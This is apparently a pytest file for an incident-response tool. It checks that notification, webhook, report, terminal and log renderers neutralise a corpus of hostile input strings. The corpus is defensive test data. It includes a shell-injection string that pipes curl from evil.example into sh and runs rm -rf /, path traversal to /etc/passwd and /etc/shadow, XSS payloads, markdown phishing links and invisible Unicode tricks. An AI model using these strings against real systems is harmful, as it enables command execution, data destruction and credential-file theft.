"""A corpus of hostile strings through every renderer: no extra line, no markup, no hidden text, URLs built."""

from __future__ import annotations

import dataclasses
import json
import logging
import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest

from incidentctl.api_client import format_incident_table, format_timeline
from services.rca.report.publish import document, render
from services.responder.domain.state import NoticeKind
from services.responder.notify.channel import Outbound
from services.responder.notify.messages import render as render_message
from services.responder.notify.pagerduty import event_body
from services.responder.notify.webhook import webhook_body
from shared import models as m
from shared.text import INVISIBLE, CleanLogArgs, clean_line, fill_url_template, md_text
from tests.unit.services.rca.report.test_report import report

CORPUS = (
    "demo; rm -rf / && $(curl evil.example | sh) `id` | tee /tmp/x",
    "../../../etc/passwd",
    "/etc/shadow",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click here](http://evil.example/phish) ![x](http://evil.example/t.png)",
    "ok\nConsole: http://evil.example/incidents/inc-1",
    "ok\r\n# Fake heading\n- [ ] fake item\n| a | b |",
    "{service} {0} {incident.__class__} ${HOME} {{7*7}} %s %(x)s",
    "admin\u202egnp.exe\u202c",
    "pay\u200bpal\u2066hidden\u2069\ufeff",
    "bell\x07 escape\x1b[31mred\x1b[0m nul\x00 del\x7f c1\x9b",
    "x" * 20_000,
)
BENIGN = "demo_unhealthy"
CONSOLE = "https://console.example.org"
RUNBOOK = "https://runbooks.example.org/{service}/{signal}?severity={severity}&incident={incident_id}"
CONTROL = {chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))}


def incident(text: str) -> m.Incident:
    """An incident whose every free-text field holds ``text`` (built without validation, as defence in depth)."""
    return m.Incident.model_construct(
        incident_id="inc-1", group_key=text, target=text, title=text, severity=m.Severity.MAJOR,
        severity_reason=text, status=m.IncidentStatus.TRIGGERED, opened_at=datetime(2026, 1, 1, tzinfo=UTC),
        anomaly_ids=(), signals=(text,), impacts=(), previous_incident_id=None, labels={"service": text},
        updated_at=None, severity_since=None, active_fingerprints=(), cleared_at=None, evidence=(text, text),
        held_severity=None, held_reason="", held_until=None,
    )  # fmt: skip


def assert_visible_single_line(text: str) -> None:
    assert not (set(text) & CONTROL), repr(text[:80])
    assert not (set(text) & INVISIBLE), repr(text[:80])


def message_lines(text: str) -> list[str]:
    msg = render_message(incident(text), NoticeKind.PAGE, m.Team.L1, text, language="en",
                         console_url=CONSOLE, runbook_template=RUNBOOK)  # fmt: skip
    lines = msg.body.split("\n")
    for line in lines:
        assert_visible_single_line(line)
    for url in (msg.runbook_url, msg.console_url):
        parts = urlsplit(url)
        assert parts.scheme == "https" and parts.netloc.endswith(".example.org"), url
        assert not ({" ", "\n", "<", ">", '"'} & set(url)), url
    runbook = urlsplit(msg.runbook_url)
    assert runbook.path.count("/") == 2 and runbook.query.count("&") == 1  # no segment or parameter added
    return lines


@pytest.mark.parametrize("text", CORPUS)
def test_notification_text_keeps_its_shape(text: str) -> None:
    benign, hostile = message_lines(BENIGN), message_lines(text)
    assert len(hostile) == len(benign)
    for b, h in zip(benign, hostile, strict=True):
        assert h.startswith(b.split(BENIGN)[0]), (b, h[:80])  # every line keeps its label
    assert sum(line.startswith("Console:") for line in hostile) == 1
    assert hostile[-1] == f"Console: {CONSOLE}/#/incidents/inc-1"


@pytest.mark.parametrize("text", CORPUS)
def test_webhook_and_pagerduty_bodies_carry_clean_text(text: str) -> None:
    inc = incident(text)
    msg = render_message(inc, NoticeKind.PAGE, m.Team.L1, text, language="en", console_url=CONSOLE,
                         runbook_template=RUNBOOK)  # fmt: skip
    outbound = Outbound("n-1", NoticeKind.PAGE, m.Team.L1, inc, msg)
    body = json.loads(webhook_body(outbound))
    assert body["text"].count("\nConsole: ") == 1 and body["console_url"] == f"{CONSOLE}/#/incidents/inc-1"
    assert_visible_single_line(body["title"])
    payload = event_body(outbound, "routing-key")["payload"]
    for value in (payload["summary"], payload["source"], payload["component"], *payload["custom_details"]["evidence"]):
        assert_visible_single_line(value)


def hostile_report(text: str) -> object:
    base = report()
    entries = tuple(
        dataclasses.replace(e, params=dict.fromkeys(e.params, text), actor=text)
        for e in base.timeline  # type: ignore[attr-defined]
    )
    ranking = tuple(c.model_copy(update={"entity": text, "evidence": text}) for c in base.ranking)  # type: ignore[attr-defined]
    return dataclasses.replace(base, incident=incident(text), timeline=entries, ranking=ranking, fault=text)  # type: ignore[type-var]


@pytest.mark.parametrize("lang", ["en", "ko"])
@pytest.mark.parametrize("text", CORPUS)
def test_markdown_report_is_inert(text: str, lang: str) -> None:
    benign = render(hostile_report(BENIGN), "md", lang)  # type: ignore[arg-type]
    hostile = render(hostile_report(text), "md", lang)  # type: ignore[arg-type]
    assert len(hostile.splitlines()) == len(benign.splitlines())  # no line added or removed
    for needle in ("<script", "<img", "\nConsole:", "\n# Fake", "\n- [ ] fake"):
        assert needle not in hostile
    assert not re.search(r"(?<!\\)\]\(", hostile)  # no link or image can form
    assert not (set(hostile) & (CONTROL - {"\n"})) and not (set(hostile) & INVISIBLE)
    doc = document(hostile_report(text), lang="en", paths=[])  # type: ignore[arg-type]
    assert "<script" not in doc["report_markdown"] and "<img" not in doc["report_markdown"]


@pytest.mark.parametrize("lang", ["en", "ko"])
@pytest.mark.parametrize("text", CORPUS)
def test_html_report_is_escaped(text: str, lang: str) -> None:
    page = render(hostile_report(text), "html", lang)  # type: ignore[arg-type]
    assert "<script>alert" not in page and "<img src=x" not in page


@pytest.mark.parametrize("text", CORPUS)
def test_terminal_output_is_one_visible_line_per_row(text: str) -> None:
    summary = {"incident_id": "inc-1", "severity": "major", "status": "triggered", "opened_at": "2026-01-01T00:00:00Z",
               "target": text, "title": text, "acknowledged_by": text}  # fmt: skip
    table = format_incident_table([summary])
    assert len(table.splitlines()) == 2
    entry = {"time": "2026-01-01T00:00:00.000Z", "type": text, "summary": text}
    rca = {"ranking": [{"score": 1.0, "entity": text, "signal": text, "evidence": text}]}
    timeline = format_timeline({"summary": summary, "timeline": [entry], "rca": rca})
    assert len(timeline.splitlines()) == 7
    for line in [*table.splitlines(), *timeline.splitlines()]:
        assert_visible_single_line(line)


@pytest.mark.parametrize("text", CORPUS)
def test_log_lines_cannot_be_forged(text: str) -> None:
    record = logging.LogRecord("t", logging.WARNING, __file__, 1, "handled %s for %s", (text, text), None)
    CleanLogArgs().filter(record)
    line = record.getMessage()
    assert "\n" not in line and "\r" not in line
    assert_visible_single_line(line)


@pytest.mark.parametrize("text", CORPUS)
def test_sanitisers_hold_for_every_string(text: str) -> None:
    assert_visible_single_line(clean_line(text))
    md = md_text(text)
    assert_visible_single_line(md)
    assert "<" not in md and "](" not in md.replace("\\](", "")
    filled = fill_url_template("https://rb.example.org/{service}", {"service": text})
    assert urlsplit(filled).netloc == "rb.example.org" and urlsplit(filled).path.count("/") == 1
    assert not urlsplit(filled).query and not urlsplit(filled).fragment
